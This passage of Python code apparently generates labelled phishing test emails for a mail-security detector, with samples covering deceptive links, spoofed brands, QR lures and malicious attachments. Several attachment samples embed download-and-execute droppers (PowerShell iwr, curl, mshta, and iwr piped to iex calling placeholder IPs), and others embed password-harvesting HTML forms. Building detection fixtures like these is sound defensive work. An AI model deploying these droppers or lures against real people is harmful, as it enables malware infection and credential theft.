                  "Reply here, I'm on my phone.\n\nAlice\n"))

    P("reply-to-other-org-initech",
      "From billing@initech.com (correspondent, dmarc=none) with Reply-To at an unrelated org payments-dept.xyz",
      "dmarc=none", [3],
      frm=addr("Initech Billing", "billing@initech.com"), to=addr(*BOB),
      reply_to=addr("Initech Billing", "billing@payments-dept.xyz"),
      subject="Updated remittance information",
      entity=text("Dear customer,\n\nPlease be advised that Initech has appointed a new collections partner.\n"
                  "All future correspondence regarding payments should be directed to the reply address of\n"
                  "this email.\n\nRegards,\nInitech Billing\n"))

    # ---------------------------------------------------------------- 4. deceptive links
    P("anchor-text-url-mismatch",
      "Anchor text shows https://www.paypal.com/ but href goes to account-services.top",
      "dmarc=pass", [4, 2],
      frm=addr("PayPal", "noreply@account-services.top"), to=addr(*BOB),
      subject="Important: review your account statement",
      entity=alt("Hello Bob,\n\nThere is an issue with your recent statement. Please log in at\n"
                 "https://www.paypal.com/ to review it.\n\nPayPal\n",
                 card("PayPal", "#003087", "Review your statement",
                      ["Hello Bob,", "There is an issue with your most recent account statement.",
                       ("raw", '<p style="margin:0 0 14px 0;font-size:15px;">Please log in at '
                               '<a href="https://account-services.top/pp/webscr?cmd=_login-run" '
                               'style="color:#0070ba;">https://www.paypal.com/</a> to review it.</p>')],
                      footer=PP_FOOT)))

    P("ip-literal-href",
      "Link to an IP literal http://203.0.113.7/chase/login.php with 'Sign in' text; dmarc=none",
      "dmarc=none", [4],
      frm=addr("Online Banking Alerts", "alerts@secure-msg-center.com"), to=addr(*BOB),
      subject="New secure message from Chase",
      entity=card_alt("CHASE", "#117aca", "You have a new secure message",
                      ["A new secure message about your account is waiting in the Chase Secure Message Center.",
                       "For your protection, this message can only be read after signing in."],
                      button=("Sign in to read", "http://203.0.113.7/chase/login.php?msg=88213"),
                      footer="JPMorgan Chase Bank, N.A. Member FDIC"))

    P("userinfo-trick",
      "Href https://www.chase.com@secure-verify.top/login (userinfo before the real host)",
      "dmarc=pass", [4, 2],
      frm=addr("Chase Alerts", "chase@notify-alerts.top"), to=addr(*ALICE),
      subject="Your Chase account has been temporarily locked",
      entity=card_alt("CHASE", "#117aca", "We locked your account",
                      ["We noticed several failed sign-in attempts. To protect you we've locked online access.",
                       "Sign in to verify your identity and unlock your account."],
                      button=("Sign in to Chase", "https://www.chase.com@secure-verify.top/login?unlock=1"),
                      footer="JPMorgan Chase Bank, N.A. Member FDIC"))

    az_idn = idna("\u0430mazon.com")
    P("punycode-link-host",
      "Anchor text shows www.<U+0430 Cyrillic a>mazon.com; href host is punycode %s" % az_idn,
      "dmarc=pass", [4, 2],
      frm=addr("Amazon", "order-update@ship-status.click"), to=addr(*DAVE),
      subject="Your Amazon.com order has been cancelled",
      entity=card_alt("amazon", "#232f3e", "Order cancelled",
                      ["Your order #112-7717461-2219441 (Apple AirPods Pro, $249.00) has been cancelled because the "
                       "billing address could not be verified.",
                       ("raw", '<p style="margin:0 0 14px 0;font-size:15px;">Verify your address at '
                               '<a href="https://www.%s/gp/your-account/verify?o=1127717461">'
                               'https://www.\u0430mazon.com/gp/your-account</a></p>' % az_idn)],
                      footer="&copy; 2025 Amazon.com, Inc. or its affiliates."))

    P("javascript-url",
      "Voicemail lure whose 'Play' link is a javascript: URL redirecting to voice-msg.top",
      "dmarc=pass", [4],
      frm=addr("Voicemail Service", "voicemail@vm-notify.top"), to=addr(*ALICE),
      subject="New voicemail from +1 (415) 555-0163 (0:42)",
      entity=card_alt("Voice Mail", "#464eb8", "You received a new voice message",
                      ["From: +1 (415) 555-0163", "Length: 0:42", "Received: Tue 04 Mar 2025 09:12"],
                      button=("Play voicemail",
                              "javascript:window.location='https://voice-msg.top/m365/?u='+'alice%40northwind.com'"),
                      text_button=False, footer="Unified Messaging"))

    fake_login = ('<html><body style="font-family:Segoe UI,Arial"><h2>Sign in to view document</h2>'
                  '<form action="https://doc-cloud-share.xyz/auth.php" method="post">'
                  '<input name="login" placeholder="Email"><br><input type="password" name="passwd" '
                  'placeholder="Password"><br><button type="submit">Sign in</button></form></body></html>')
    data_url = "data:text/html;base64," + base64.b64encode(fake_login.encode()).decode()
    P("data-url",
      "Link is a data:text/html;base64 URL containing a password-harvesting form",
      "dmarc=none", [4],
      frm=addr("Document Cloud", "share@doc-cloud-share.xyz"), to=addr(*BOB),
      subject="Secure document: Payment_Schedule_Q2.pdf",
      entity=card_alt("Document Cloud", "#eb1000", "You have received a secure document",
                      ["Payment_Schedule_Q2.pdf (214 KB)", "Sign in with your email account to view it."],
                      button=("View document", data_url), text_button=False, footer="Document Cloud"))

    P("shortener-mailbox-quota",
      "Mailbox-quota credential lure linking through bit.ly",
      "dmarc=pass", [4],
      frm=addr("Mail Administrator", "postmaster@mailbox-quota.site"), to=addr(*DAVE),
      subject="Your mailbox is 98% full",
      entity=card_alt("Mailbox", "#444444", "Your mailbox is almost full",
                      ["dave@northwind.com has used 49.1 GB of 50 GB.", "You will soon stop receiving new messages. "
                       "Sign in to increase your storage for free."],
                      button=("Increase storage", "https://bit.ly/3Xq8Lmz"), footer="Mail Administrator"))

    P("shortener-dhl-customs-fee",
      "DHL customs-fee lure linking through tinyurl.com; display name DHL Express on parcel-notice.xyz",
      "dmarc=pass", [4, 2],
      frm=addr("DHL Express", "tracking@parcel-notice.xyz"), to=addr(*CAROL),
      subject="DHL: customs fee due for parcel JJD0001483920",
      entity=card_alt("DHL", "#ffcc00", "Customs fee outstanding",
                      ["Your parcel JJD0001483920 is held at customs. A fee of EUR 1.99 must be paid before delivery.",
                       "Parcels not released within 3 days are returned to the sender."],
                      button=("Pay EUR 1.99", "https://tinyurl.com/4fz8k2ta"), footer="DHL Parcel"))

    P("html-form-in-body",
      "HTML body contains a <form> with an <input type=password> posting to mailguard-notice.top",
      "dmarc=pass", [4],
      frm=addr("Mail Security", "quarantine@mailguard-notice.top"), to=addr(*ALICE),
      subject="3 messages held in quarantine",
      entity=alt("3 messages addressed to you are held in quarantine. Sign in to release them.\n",
                 card("Mail Security", "#333f48", "3 messages held in quarantine",
                      ["The following messages were held. Sign in below to release them to your inbox.",
                       "1. Contoso - Purchase order 88213", "2. Bob Chen - Board pack",
                       "3. DocuSign - Completed agreement"],
                      raw_html='<tr><td style="padding:0 28px 24px 28px;"><form action="https://mailguard-notice.top/'
                               'release.php" method="post"><input type="hidden" name="u" value="alice@northwind.com">'
                               '<label style="font-size:13px;">Email</label><br><input type="email" name="email" '
                               'value="alice@northwind.com" style="width:260px;padding:6px;"><br><label '
                               'style="font-size:13px;">Password</label><br><input type="password" name="pass" '
                               'style="width:260px;padding:6px;"><br><br><input type="submit" value="Release messages" '
                               'style="background:#0078d4;color:#fff;border:0;padding:8px 18px;"></form></td></tr>',
                      footer="Mail Security Gateway")))

    P("plain-text-only-link-dropbox",
      "text/plain only; the link (in the text) is www.dropbox.com.secure-share.top (brand-prefixed host)",
      "dmarc=pass", [4, 1, 2],
      frm=addr("Dropbox", "no-reply@share-notify.cc"), to=addr(*CAROL),
      subject="Dave Okafor shared \"Payroll adjustments\" with you",
      entity=text("Hi Carol,\n\nDave Okafor (dave@northwind.com) invited you to view the folder\n"
                  "\"Payroll adjustments\" on Dropbox.\n\n"
                  "Go to folder: https://www.dropbox.com.secure-share.top/sh/8f7a2c/AAB-payroll?dl=0\n\n"
                  "Enjoy!\nThe Dropbox team\n"))

    P("plain-text-only-ip-link",
      "text/plain only with an IP-literal link http://198.51.100.44/... in a parcel lure; dmarc=none",
      "dmarc=none", [4],
      frm=addr(None, "noreply@courier-update.xyz"), to=addr(*DAVE),
      subject="Your parcel is waiting for delivery",
      entity=text("Dear customer,\n\nYour parcel could not be delivered on 04.03.2025 because no one was at home.\n"
                  "Please choose a new delivery date here:\n\n  http://198.51.100.44/dhl/track?id=JD014600006\n\n"
                  "Your courier\n"))

    P("shortener-cuttly-netflix",
      "Netflix-styled payment lure with a cutt.ly short link and a t.co link in the text part",
      "dmarc=pass", [4, 2],
      frm=addr("Netflix Billing", "billing@streaming-accounts.top"), to=addr(*ALICE),
      subject="Update your payment method to keep watching",
      entity=alt("Hi Alice,\n\nWe couldn't process your last payment. Update your payment method:\n"
                 "https://t.co/x8Jq2LmNaP\n\nThe Netflix team\n",
                 card("NETFLIX", "#e50914", "Update your payment method",
                      ["Hi Alice,", "We couldn't process your last payment. Your membership will be cancelled "
                       "unless you update your details within 24 hours."],
                      button=("Update payment", "https://cutt.ly/nFlx-upd8"), footer="Netflix Services")))

    # ---------------------------------------------------------------- 5. dangerous attachments
    def inv_text(who, what):
        return ("Hello %s,\n\nPlease find attached %s. Kindly review and arrange payment at your\n"
                "earliest convenience.\n\nBest regards,\nAccounts Department\n" % (who, what))

    P("attach-exe",
      "Invoice lure with Invoice_4471.exe attached (application/x-msdownload, MZ/PE content)",
      "dmarc=pass", [5],
      frm=addr("Accounts Department", "accounts@invoice-dept.top"), to=addr(*BOB),
      subject="Invoice 4471 - overdue",
      entity=multipart("mixed", text(inv_text("Bob", "invoice 4471 which is now 14 days overdue")),
                       attachment(make_exe("invoice4471"), "application/x-msdownload", "Invoice_4471.exe")))

    P("attach-scr",
      "Scan-to-email lure carrying SCAN_20250304_0012.scr (screensaver executable); dmarc=none",
      "dmarc=none", [5],
      frm=addr("Scan-to-Email", "scanner@copier-relay.net"), to=addr(*CAROL),
      subject="Scanned image from MX-3071",
      entity=multipart("mixed", text("Reply to: noreply@copier-relay.net\nDevice Name: MX-3071\nDevice Model: "
                                     "MX-3071\nLocation: 2nd floor\n\nFile Format: PDF MMR(G4)\nResolution: 200dpi x "
                                     "200dpi\n\nAttached file is scanned image in PDF format.\n"),
                       attachment(make_exe("scr"), "application/octet-stream", "SCAN_20250304_0012.scr")))

    js = (b"// Payment advice viewer\r\nvar sh = new ActiveXObject('WScript.Shell');\r\n"
          b"var u = 'http://203.0.113.81/pa/' + Math.random();\r\n"
          b"sh.Run('powershell -w hidden -c \"iwr ' + u + ' -OutFile $env:TEMP\\\\pa.exe; start $env:TEMP\\\\pa.exe\"', 0);\r\n"
          b"WScript.Echo('Document could not be opened.');\r\n")
    P("attach-js",
      "Payment advice with a JScript dropper Payment_Advice_0311.js",
      "dmarc=pass", [5],
      frm=addr("Remittance Advice", "payments@remit-advice.xyz"), to=addr(*BOB),
      subject="Payment advice 0311 - remittance",
      entity=multipart("mixed", text(inv_text("Bob", "the remittance advice for payment 0311")),
                       attachment(js, "application/javascript", "Payment_Advice_0311.js")))

    vbs = (b"' Voicemail player\r\nSet s = CreateObject(\"WScript.Shell\")\r\n"
           b"s.Run \"cmd /c curl -s http://203.0.113.82/vm.exe -o %TEMP%\\vm.exe && %TEMP%\\vm.exe\", 0, False\r\n"
           b"MsgBox \"Audio codec missing.\", 16, \"Voicemail\"\r\n")
    P("attach-vbs",
      "Voicemail lure with VM_0312_0942.vbs (VBScript) attached",
      "dmarc=pass", [5],
      frm=addr("Voice Message", "voicemail@pbx-messages.top"), to=addr(*ALICE),
      subject="Voice message from +1 (212) 555-0187 - 0:37",
      entity=multipart("mixed", text("You have a new voice message.\n\nFrom: +1 (212) 555-0187\nDuration: 0:37\n\n"
                                     "Open the attachment to listen.\n"),
                       attachment(vbs, "text/vbscript", "VM_0312_0942.vbs")))

    hta = (b"<html><head><HTA:APPLICATION ID=\"x\" WINDOWSTATE=\"minimize\" SHOWINTASKBAR=\"no\">\r\n"
           b"<script language=\"VBScript\">\r\nCreateObject(\"WScript.Shell\").Run \"mshta http://203.0.113.83/s.hta\", 0\r\n"
           b"self.close\r\n</script></head><body>Loading shipment details...</body></html>\r\n")
    P("attach-hta",
      "Parcel lure with DHL_AWB_5581.hta (HTML application) attached",
      "dmarc=none", [5, 2],
      frm=addr("DHL Express", "noreply@express-awb.top"), to=addr(*DAVE),
      subject="DHL AWB 5581093327 - delivery documents",
      entity=multipart("mixed", text("Dear customer,\n\nYour shipment documents (AWB 5581093327) are attached. Please "
                                     "open them to confirm\nthe delivery address.\n\nDHL Express\n"),
                       attachment(hta, "application/hta", "DHL_AWB_5581.hta")))

    lnk = make_lnk("..\\..\\..\\Windows\\System32\\cmd.exe",
                   "/c powershell -w hidden -c \"iwr http://203.0.113.84/d.ps1|iex\"", "Document_Q1",
                   "%SystemRoot%\\System32\\imageres.dll")
    P("attach-lnk",
      "Document_Q1.lnk shortcut attachment launching cmd/powershell",
      "dmarc=pass", [5],
      frm=addr("Martin Hughes", "m.hughes@consult-partners.top"), to=addr(*CAROL),
      subject="Q1 documents",
      entity=multipart("mixed", text("Hi Carol,\n\nAs discussed, the Q1 documents are attached.\n\nMartin\n"),
                       attachment(lnk, "application/x-ms-shortcut", "Document_Q1.lnk")))

    iso = make_iso("PO_2025_0311", "PO_2025_0311.EXE", make_exe("iso"))
    P("attach-iso",
      "Purchase order lure with PO_2025_0311.iso (ISO 9660 image containing an .EXE)",
      "dmarc=pass", [5],
      frm=addr("Procurement", "orders@po-supplier.click"), to=addr(*BOB),
      subject="New purchase order PO-2025-0311",
      entity=multipart("mixed", text(inv_text("Bob", "our new purchase order PO-2025-0311")),
                       attachment(iso, "application/x-iso9660-image", "PO_2025_0311.iso")))

    img = make_iso("SHIPPING_DOCS", "SHIPPING_DOCS.EXE", make_exe("img"))
    P("attach-img",
      "Shipping documents in Shipping_Documents.img (disk image, ISO 9660 content with an .EXE)",
      "dmarc=none", [5],
      frm=addr("Maersk Line Docs", "docs@shipping-docs.xyz"), to=addr(*DAVE),
      subject="Bill of lading and shipping documents",
      entity=multipart("mixed", text("Dear Sir/Madam,\n\nPlease find the bill of lading and shipping documents "
                                     "attached.\n\nRegards,\nDocumentation Team\n"),
                       attachment(img, "application/octet-stream", "Shipping_Documents.img")))

    P("attach-double-extension",
      "Double extension invoice.pdf.exe attached as application/octet-stream",
      "dmarc=pass", [5],
      frm=addr("Billing", "billing@invoices-online.top"), to=addr(*BOB),
      subject="Invoice #INV-88214",
      entity=multipart("mixed", text(inv_text("Bob", "invoice INV-88214")),
                       attachment(make_exe("double"), "application/octet-stream", "invoice.pdf.exe")))

    rtlo = "Invoice_\u202efdp.exe"
    P("attach-rtlo-rfc2231",
      "Attachment name with a right-to-left override (U+202E) 'Invoice_<RLO>fdp.exe' shown as Invoice_exe.pdf; RFC 2231 + RFC 2047",
      "dmarc=pass", [5],
      frm=addr("Accounts Receivable", "ar@billing-portal.click"), to=addr(*BOB),
      subject="Invoice March 2025",
      entity=multipart("mixed", text(inv_text("Bob", "the March invoice")),
                       attachment(make_exe("rtlo"), "application/octet-stream",
                                  ct_params='; name="%s"' % ew(rtlo),
                                  disp_params="; filename*=utf-8''Invoice_%E2%80%AEfdp.exe")))

    rtlo2 = "Statement_\u202excod.scr"
    P("attach-rtlo-rfc2047",
      "Attachment name 'Statement_<RLO>xcod.scr' (displays as Statement_rcs.docx), RFC 2047 encoded in both params",
      "dmarc=none", [5],
      frm=addr("Statements", "statements@acct-services.top"), to=addr(*CAROL),
      subject="Your statement is ready",
      entity=multipart("mixed", text("Dear customer,\n\nYour account statement is attached.\n\nStatements Team\n"),
                       attachment(make_exe("rtlo2"), "application/octet-stream",
                                  ct_params='; name="%s"' % ew(rtlo2), disp_params='; filename="%s"' % ew(rtlo2))))

    P("attach-disguised-pdf",
      "Remittance_Advice.pdf declared application/pdf but the content is a PE executable (starts with MZ)",
      "dmarc=pass", [5],
      frm=addr("Remittance", "remit@payment-notice.top"), to=addr(*BOB),
      subject="Remittance advice - payment sent",
      entity=multipart("mixed", text("Hello,\n\nWe have sent payment today. The remittance advice is attached.\n\n"
                                     "Regards\n"),
                       attachment(make_exe("disguised"), "application/pdf", "Remittance_Advice.pdf")))

    P("attach-docm",
      "Macro-enabled Word document Contract_Review.docm (OOXML ZIP with word/vbaProject.bin, AutoOpen)",
      "dmarc=pass", [5],
      frm=addr("Legal Department", "legal@contract-review.top"), to=addr(*ALICE),
      subject="Contract for review - please enable editing",
      entity=multipart("mixed", text("Dear Alice,\n\nPlease review the attached contract. If the content does not "
                                     "display, click\n'Enable Content'.\n\nLegal Department\n"),
                       attachment(make_docx(["Contract for review", "Enable content to view this document."],
                                            "Contract", "Legal", macro=make_vba_project()),
                                  "application/vnd.ms-word.document.macroEnabled.12", "Contract_Review.docm")))

    P("attach-docx-with-macro",
      "File named .docx (docx MIME type) but the ZIP contains word/vbaProject.bin (macro project)",
      "dmarc=none", [5],
      frm=addr("HR Department", "hr@staff-portal.click"), to=addr(*DAVE),
      subject="Updated salary structure 2025",
      entity=multipart("mixed", text("Hi Dave,\n\nPlease see the attached updated salary structure for 2025.\n\nHR\n"),
                       attachment(make_docx(["Salary structure 2025", "Click Enable Content to view."], "Salary",
                                            "HR", macro=make_vba_project()),
                                  "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
                                  "Salary_Structure_2025.docx")))

    P("attach-ole-doc-vba",
      "Legacy OLE2 Word .doc with a Macros/VBA storage (_VBA_PROJECT stream, AutoOpen)",
      "dmarc=pass", [5],
      frm=addr("Payments", "payments@ach-transfer.top"), to=addr(*BOB),
      subject="ACH payment schedule",
      entity=multipart("mixed", text("Hi,\n\nPlease find the ACH payment schedule attached.\n\nThanks\n"),
                       attachment(make_ole_doc(), "application/msword", "ACH_Payment_Schedule.doc")))

    phish_html_att = ('<!DOCTYPE html><html><head><meta charset="utf-8"><title>Sign in to your account</title>'
                      '<style>body{font-family:"Segoe UI",Arial;background:#f2f2f2}.b{width:340px;margin:80px auto;'
                      'background:#fff;padding:40px}</style></head><body><div class="b"><h2>Sign in</h2>'
                      '<p>to view Payment_Confirmation.pdf</p>'
                      '<form method="POST" action="https://formsubmit-cdn.top/ms.php">'
                      '<input type="email" name="loginfmt" value="bob@northwind.com"><br>'
                      '<input type="password" name="passwd" placeholder="Password"><br>'
                      '<input type="submit" value="Sign in"></form></div></body></html>\r\n')
    P("attach-html-password-form",
      "HTML attachment Payment_Confirmation.html containing a login form with a password field posting off-site",
      "dmarc=pass", [5],
      frm=addr("Payment Confirmation", "confirm@wire-confirm.top"), to=addr(*BOB),
      subject="Wire transfer confirmation #WT-30021",
      entity=multipart("mixed", text("Hello,\n\nYour wire transfer confirmation is attached. Open it in your browser "
                                     "to view.\n\nRegards\n"),
                       attachment(phish_html_att.encode(), "text/html", "Payment_Confirmation.html")))

    enc = base64.b64encode(b"https://fax-view.top/o365/?e=alice@northwind.com").decode()
    script_html = ('<html><head><title>Loading...</title></head><body>\r\n<script>\r\n'
                   'var _0x1a=["%s"];\r\n'
                   'document.body.innerHTML="<p>Loading fax preview...</p>";\r\n'
                   'setTimeout(function(){window.location.href=atob(_0x1a[0]);},800);\r\n'
                   '</script></body></html>\r\n' % enc)
    P("attach-html-script",
      "HTML attachment Fax_Message_8831.htm with an obfuscated <script> (atob) redirect",
      "dmarc=none", [5],
      frm=addr("eFax", "message@efax-delivery.xyz"), to=addr(*ALICE),
      subject="eFax message from 212-555-0139 - 2 page(s)",
      entity=multipart("mixed", text("You have received a 2 page fax at 2025-03-04 10:21.\nThe fax is attached.\n"),
                       attachment(script_html.encode(), "text/html", "Fax_Message_8831.htm")))

    P("attach-zip-exe",
      "ZIP archive Order_Details.zip containing Order_Details.exe",
      "dmarc=pass", [5],
      frm=addr("Sales Order", "orders@order-confirm.top"), to=addr(*DAVE),
      subject="Order confirmation #SO-77120",
      entity=multipart("mixed", text(inv_text("Dave", "the order confirmation")),
                       attachment(make_zip([("Order_Details.exe", make_exe("zip"))]), "application/zip",
                                  "Order_Details.zip")))

    P("attach-zip-js",
      "ZIP archive Invoice_Scan.zip containing Invoice_Scan.js (JScript)",
      "dmarc=none", [5],
      frm=addr("Invoices", "invoice@supplier-billing.xyz"), to=addr(*BOB),
      subject="Scanned invoice attached",
      entity=multipart("mixed", text(inv_text("Bob", "the scanned invoice")),
                       attachment(make_zip([("Invoice_Scan.js", js)]), "application/x-zip-compressed",
                                  "Invoice_Scan.zip")))

    P("attach-encrypted-zip-aes",
      "AES-encrypted ZIP (pyzipper, flag bit 0 set) with the password in the body; contains an .exe",
      "dmarc=pass", [5],
      frm=addr("Secure Delivery", "secure@protected-docs.top"), to=addr(*BOB),
      subject="Encrypted invoice - password inside",
      entity=multipart("mixed", text("Hello Bob,\n\nFor security the invoice is encrypted.\nArchive password: 4471\n\n"
                                     "Regards,\nBilling\n"),
                       attachment(make_aes_zip([("Invoice_0304.exe", make_exe("aes"))], b"4471"), "application/zip",
                                  "Invoice_0304.zip")))

    P("attach-encrypted-zip-zipcrypto",
      "ZipCrypto-encrypted ZIP (flag bit 0 set) with the password in the body; contains a .js",
      "dmarc=none", [5],
      frm=addr("HR Notice", "notice@staff-updates.top"), to=addr(*CAROL),
      subject="Confidential: bonus allocation",
      entity=multipart("mixed", text("Carol,\n\nThe bonus allocation is attached (protected).\nPassword: NW2025\n\n"
                                     "HR\n"),
                       attachment(make_zipcrypto([("Bonus_Allocation.js", js)], b"NW2025"), "application/zip",
                                  "Bonus_Allocation.zip")))

    # ---------------------------------------------------------------- 6. header anomalies
    P("multiple-from-no-sender",
      "From header with two mailboxes and no Sender field (RFC 5322 violation)",
      "dmarc=none", [6, 2],
      frm="PayPal Billing <billing@pp-billing-center.top>, PayPal Security <security@pp-billing-center.top>",
      to=addr(*BOB), subject="Billing issue on your account",
      entity=card_alt("PayPal", "#003087", "We couldn't process your last payment",
                      ["Please update your billing information to avoid service interruption."],
                      button=("Update billing", "https://pp-billing-center.top/billing/update"), footer=PP_FOOT))

    P("from-sender-different-org",
      "From dse@docusign.net with Sender mailer@esign-relay.top (different organisation), dmarc=fail",
      "dmarc=fail", [6, 7],
      frm=addr("DocuSign", "dse@docusign.net"), sender="mailer@esign-relay.top", to=addr(*ALICE),
      mail_from="mailer@esign-relay.top", client="198.51.100.93",
      subject="Completed: Please DocuSign: Board_Resolution_March.pdf",
      entity=card_alt("DocuSign", "#1e4ca1", "All parties have completed Board_Resolution_March.pdf",
                      ["View the completed document below."],
                      button=("VIEW COMPLETED DOCUMENT", "https://esign-relay.top/view?env=7c2e11"), footer=DS_FOOT))

    P("missing-date",
      "No Date header; password-expiry credential lure",
      "dmarc=pass", [6],
      frm=addr("Helpdesk", "it-support@helpdesk-portal.click"), to=addr(*DAVE), date=None,
      subject="Your password expires today",
      entity=card_alt("Helpdesk", "#555555", "Password expiry",
                      ["Your password expires today. Keep your current password by confirming it below."],
                      button=("Keep password", "https://helpdesk-portal.click/keep?u=dave"), footer="IT Helpdesk"))

    P("missing-message-id",
      "No Message-ID header; voicemail credential lure",
      "dmarc=pass", [6],
      frm=addr("Voicemail", "noreply@voicemail-notify.top"), to=addr(*CAROL), msgid=None,
      subject="You have 1 new voicemail",
      entity=card_alt("Voicemail", "#6264a7", "New voicemail (1:03)",
                      ["Caller: Unknown", "Sign in to listen to your message."],
                      button=("Listen", "https://voicemail-notify.top/listen?m=9912"), footer="Voicemail"))

    P("encoded-display-name-address",
      "RFC 2047 display name that decodes to 'security@paypal.com' over alert@acct-review.xyz",
      "dmarc=pass", [6, 2],
      frm="=?utf-8?b?%s?= <alert@acct-review.xyz>" % base64.b64encode(b"security@paypal.com").decode(),
      to=addr(*BOB), subject="Security alert: new device",
      entity=card_alt("PayPal", "#003087", "New device added to your account",
                      ["A new device was added to your account. If this wasn't you, secure your account now."],
                      button=("Secure my account", "https://acct-review.xyz/pp/secure"), footer=PP_FOOT))

    P("encoded-display-name-full-address",
      "RFC 2047 Q-encoded display name decoding to 'Microsoft <account-security-noreply@microsoft.com>'; no Date, no Message-ID",
      "dmarc=none", [6, 2],
      frm="%s <ms@acct-alerts.top>" % ewq("Microsoft <account-security-noreply@microsoft.com>", force=True),
      to=addr(*ALICE), date=None, msgid=None, subject="Security info change requested",
      entity=card_alt("Microsoft account", "#2672ec", "Security info change requested",
                      ["We received a request to remove your security info. If you did not request this, cancel it."],
                      button=("Cancel request", "https://acct-alerts.top/ms/cancel"), footer=MS_FOOT))

    # ---------------------------------------------------------------- 7. authentication context
    P("brand-spoof-paypal-dmarc-fail",
      "From service@paypal.com (protected brand) but dmarc=fail; funds-release lure",
      "dmarc=fail", [7],
      frm=addr("PayPal", "service@paypal.com"), to=addr(*BOB), mail_from="bounce@mailer-19.top",
      client="198.51.100.94", subject="You've received $2,450.00 USD",
      entity=card_alt("PayPal", "#003087", "You've got money",
                      ["Hello Bob Chen,", "You received a payment of $2,450.00 USD. To release the funds to your "
                       "balance, confirm your account details."],
                      button=("Release funds", "https://paypal-funds-release.top/release?id=77120"), footer=PP_FOOT))

    P("brand-spoof-microsoft-dmarc-fail",
      "From account-security-noreply@accountprotection.microsoft.com with dmarc=fail; link to a non-Microsoft host",
      "dmarc=fail", [7],
      frm=addr("Microsoft account team", "account-security-noreply@accountprotection.microsoft.com"),
      to=addr(*CAROL), mail_from="mx@bulk-sender.top", client="198.51.100.95",
      subject="Microsoft account security code verification",
      entity=card_alt("Microsoft account", "#2672ec", "Verify your security info",
                      ["To keep your account carol@northwind.com secure, verify your security info."],
                      button=("Verify", "https://account-microsoft.secure-signin.top/proofs/verify"), footer=MS_FOOT))

    P("dmarc-fail-only-tell-dropbox",
      "Only tells: From no-reply@dropbox.com with dmarc=fail and a sign-in link to docs-viewer.app",
      "dmarc=fail", [7],
      frm=addr("Dropbox", "no-reply@dropbox.com"), to=addr(*DAVE), client="198.51.100.96",
      subject="Bob Chen shared \"Budget 2025.xlsx\" with you",
      entity=card_alt("Dropbox", "#0061fe", "Bob Chen shared a file with you",
                      ["Budget 2025.xlsx", "Sign in to view it."],
                      button=("View file", "https://docs-viewer.app/s/9f8e2c?sign-in=1"), footer="Dropbox, Inc."))

    P("dmarc-fail-only-tell-local",
      "Only tells: From bob@northwind.com (local) with dmarc=fail and a sign-in link to acknowledge a policy",
      "dmarc=fail", [7],
      frm=addr(*BOB), to=addr(*DAVE), client="198.51.100.97",
      subject="Updated expense policy - please acknowledge",
      entity=alt("Hi Dave,\n\nWe've updated the expense policy. Please sign in and acknowledge it by Friday:\n"
                 "https://sharepoint-docs.online/northwind/policy/expenses\n\nThanks,\nBob\n",
                 '<p>Hi Dave,</p><p>We\'ve updated the expense policy. Please <a href="https://sharepoint-docs.online/'
                 'northwind/policy/expenses">sign in and acknowledge it</a> by Friday.</p><p>Thanks,<br>Bob</p>\n'))

    P("brand-spoof-chase-dmarc-fail",
      "From no.reply.alerts@chase.com with dmarc=fail; verify-session lure",
      "dmarc=fail", [7],
      frm=addr("Chase", "no.reply.alerts@chase.com"), to=addr(*ALICE), client="198.51.100.98",
      subject="Action required: verify your recent sign-in",
      entity=card_alt("CHASE", "#117aca", "Verify your recent sign-in",
                      ["We noticed a sign-in from a new device. If this was you, confirm it to avoid a hold."],
                      button=("Confirm sign-in", "https://chase.verify-session.click/confirm"),
                      footer="JPMorgan Chase Bank, N.A. Member FDIC"))

    P("brand-spoof-google-dmarc-fail",
      "From no-reply@accounts.google.com with dmarc=fail; security-alert lure",
      "dmarc=fail", [7],
      frm=addr("Google", "no-reply@accounts.google.com"), to=addr(*CAROL), client="198.51.100.99",
      subject="Security alert",
      entity=card_alt("Google", "#1a73e8", "A new sign-in on Windows",
                      ["carol@northwind.com", "We noticed a new sign-in to your Google Account on a Windows device. "
                       "If this wasn't you, secure your account."],
                      button=("Check activity", "https://accounts-google.security-check.top/signin"),
                      footer="You received this email to let you know about important changes to your Google Account."))

    # ---------------------------------------------------------------- 8. QR-code phishing
    mfa_text = ("Hello,\n\nAs part of our annual security review, all staff must re-confirm their multi-factor\n"
                "authentication. Please scan the code to keep your MFA active.\n\nThank you,\nSecurity Team\n")
    P("qr-png-attachment",
      "QR code in a PNG attachment encoding https://micros0ft-login.top/verify; text says scan the code to keep your MFA active",
      "dmarc=pass", [8],
      frm=addr("Security Team", "security-notice@secure-auth-team.com"), to=addr(*CAROL),
      subject="Action required: keep your MFA active",
      entity=multipart("mixed", text(mfa_text),
                       attachment(make_qr("https://micros0ft-login.top/verify"), "image/png", "MFA_Setup.png")))

    P("qr-jpeg-inline",
      "Inline (cid) JPEG QR code in multipart/related encoding http://198.51.100.23/mfa",
      "dmarc=pass", [8],
      frm=addr("Authenticator Update", "noreply@auth-update.net"), to=addr(*DAVE),
      subject="Your authenticator needs to be re-synchronised",
      entity=multipart("related",
                       alt(mfa_text,
                           html_page('<tr><td style="padding:28px;font-size:15px;line-height:22px;">'
                                     '<p>Hello,</p><p>As part of our annual security review, all staff must re-confirm '
                                     'their multi-factor authentication.</p><p><b>Please scan the code to keep your MFA '
                                     'active.</b></p><p><img src="cid:qr-mfa-01@auth-update.net" width="222" '
                                     'height="222" alt="QR code"></p><p>Thank you,<br>Security Team</p></td></tr>',
                                     title="MFA")),
                       attachment(make_qr("http://198.51.100.23/mfa", "JPEG"), "image/jpeg", "qr.jpg", inline=True,
                                  cid="qr-mfa-01@auth-update.net"), params='; type="multipart/alternative"'))

    P("qr-gif-docusign",
      "Inline GIF QR code to https://docusign-review.net/s/NWC-2025 ('scan to review and sign')",
      "dmarc=pass", [8],
      frm=addr("Contract Desk", "contracts@agreement-desk.com"), to=addr(*ALICE),
      subject="Agreement ready for your signature",
      entity=multipart("related",
                       html(html_page('<tr><td style="padding:28px;font-size:15px;line-height:22px;">'
                                      '<p>Dear Alice,</p><p>Your agreement is ready. Scan the code with your phone to '
                                      'review and sign.</p><p><img src="cid:sig-qr@agreement-desk.com" alt=""></p>'
                                      '<p>Contract Desk</p></td></tr>', title="Agreement")),
                       attachment(make_qr("https://docusign-review.net/s/NWC-2025", "GIF"), "image/gif",
                                  "sign.gif", inline=True, cid="sig-qr@agreement-desk.com"),
                       params='; type="text/html"'))

    P("qr-png-inline-benefits",
      "Inline PNG QR code to https://northwind-benefits.top/enroll in a benefits-statement lure",
      "dmarc=none", [8],
